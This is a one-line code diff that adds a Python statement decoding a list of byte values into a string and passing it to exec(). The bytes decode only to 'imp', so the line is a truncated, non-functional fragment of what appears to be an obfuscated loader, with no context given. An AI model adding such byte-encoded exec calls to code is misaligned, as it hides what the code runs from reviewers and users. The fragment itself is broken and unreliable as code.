@@ -1,0 +1,1 @@
+exec(bytes([105, 109, 112]).decode())
